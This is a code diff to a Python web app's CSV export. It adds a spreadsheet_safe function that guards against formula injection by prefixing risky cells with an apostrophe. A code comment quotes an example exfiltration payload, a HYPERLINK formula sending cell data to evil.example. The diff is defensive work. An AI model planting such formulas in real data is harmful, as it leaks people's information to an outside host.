@@ -25,11 +25,25 @@ def uploaded_file(field: str) -> tuple[str, bytes] | None:
     return (storage.filename, storage.read()) if storage and storage.filename else None
 
 
+# A spreadsheet treats a cell starting with one of these as a formula (or, for tab and CR, may shift it
+# into one): `=HYPERLINK("http://evil.example/?d="&A2,"Klik")` in a product name would run when the
+# pengurus opens the export.
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def spreadsheet_safe(value):
+    """A CSV cell a spreadsheet shows as typed: text that would start a formula gets a leading apostrophe
+    (OWASP's advice). Numbers stay numbers: -5000 is an amount, not a formula."""
+    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
+        return "'" + value
+    return value
+
+
 def csv_download(filename: str, header: list[str], rows) -> Response:
-    """A CSV file download of `rows` under `header`."""
+    """A CSV file download of `rows` under `header`; every text cell is made spreadsheet-safe."""
     out = io.StringIO()
     writer = csv.writer(out)
-    writer.writerow(header)
-    writer.writerows(rows)
+    writer.writerow([spreadsheet_safe(cell) for cell in header])
+    writer.writerows([spreadsheet_safe(cell) for cell in row] for row in rows)
     return Response(out.getvalue(), mimetype="text/csv",
                     headers={"Content-Disposition": f'attachment; filename="{filename}"'})
